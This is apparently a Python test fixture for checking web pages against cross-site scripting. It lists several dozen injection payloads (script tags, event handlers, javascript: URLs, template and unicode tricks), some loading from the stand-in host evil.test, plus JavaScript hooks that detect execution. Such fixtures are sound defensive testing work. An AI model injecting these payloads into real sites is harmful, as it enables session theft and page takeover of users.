"""Texts that would run, load or make something if any page took one for markup.

Each calls ``__ran``, asks for ``/stolen`` or makes an element ``x-made`` or a class ``xss-made``: what a page
does with them can be seen from outside. The others break what shows a text: directions, lengths, templates.
"""

PAYLOADS = (
    "<script>__ran(1)</script>",
    "<SCRIPT SRC=//evil.test/stolen.js></SCRIPT>",
    "</script><script>__ran(2)</script>",
    "</title></textarea></style><script>__ran(3)</script>",
    "<img src=/stolen onerror=__ran(4)>",
    '"><img src=x onerror="__ran(5)">',
    "'><img src=x onerror='__ran(6)'>",
    "<img src=`x` onerror=__ran(7)//",
    "<svg onload=__ran(8)>",
    "<svg><script>__ran(9)</script></svg>",
    "<svg><a xlink:href='javascript:__ran(10)'><text y=9>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=__ran(11)></style></mtext></math>",
    "<iframe srcdoc='<script>parent.__ran(12)</script>'></iframe>",
    "<iframe src=javascript:parent.__ran(13)></iframe>",
    "<object data=//evil.test/stolen></object>",
    "<embed src=//evil.test/stolen>",
    "<link rel=stylesheet href=//evil.test/stolen.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/stolen'>",
    "<form action=//evil.test/stolen class=xss-made><button>go",
    "<input autofocus onfocus=__ran(14) class=xss-made>",
    "<details open ontoggle=__ran(15) class=xss-made>",
    "<video><source onerror=__ran(16)></video>",
    "<a href=javascript:__ran(17) class=xss-made>press</a>",
    "javascript:__ran(18)",
    "java\tscript:__ran(19)",
    "data:text/html,<script>__ran(20)</script>",
    '" onmouseover="__ran(21)" class="xss-made',
    "' onfocus='__ran(22)' autofocus='",
    "x onerror=__ran(23) class=xss-made",
    "{{constructor.constructor('__ran(24)')()}}",
    "${__ran(25)}",
    "{% raw %}{{ 7*7 }}{% endraw %}<%= __ran(26) %>",
    "<style>*{background:url(//evil.test/stolen)}</style><x-made>",
    "red;background:url(/stolen)",
    "expression(__ran(27))",
    "<x-made id=xss-made onclick=__ran(28)>",
    "&lt;script&gt;__ran(29)&lt;/script&gt;",
    "\\u003cscript\\u003e__ran(30)\\u003c/script\\u003e",
    "\uff1cscript\uff1e__ran(31)\uff1c/script\uff1e",
    "<scr\u200bipt>__ran(32)</scr\u200bipt>",
    "\u202e<x-made>gpj.exe\u202c",
    "a\u0300\u0301\u0302" * 40 + "<x-made>",
    "<x-made>" * 400,
    "]]><x-made><!--",
    "<!--><x-made>-->",
    "<noscript><p title='</noscript><img src=x onerror=__ran(33)>'>",
    "<template><x-made></template><x-made>",
)
PRINTABLE = tuple(text for text in PAYLOADS if text.isprintable())
"""Those without signs that names of accounts and of saved queries refuse."""
HOOK = """
window.__runs = [];
window.__ran = (number) => { window.__runs.push(number); };
addEventListener("securitypolicyviolation", (event) =>
  window.__runs.push(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
MADE = r"""() => [...document.querySelectorAll("*")].filter((each) => each.matches(`
    x-made, .xss-made, #xss-made, iframe, object, embed, base, meta[http-equiv], video, math, noscript > p,
    a[href*='evil.test'], form[action*='evil.test'], [src*='stolen'], [style*='stolen']`) ||
  [...each.attributes].some(({ name, value }) => /^on/i.test(name) ||
    (/^(href|src|action|formaction|xlink:href)$/i.test(name) &&
      /^javascript:/i.test(value.replace(/\s/g, ""))))
).map((each) => each.outerHTML.slice(0, 160))"""
SAID = """() => [document.documentElement.textContent,
  ...[...document.querySelectorAll("*")].flatMap(
    (each) => [each.value, ...[...each.attributes].map(({ value }) => value)]),
].filter((each) => typeof each === "string").join("\\n")"""
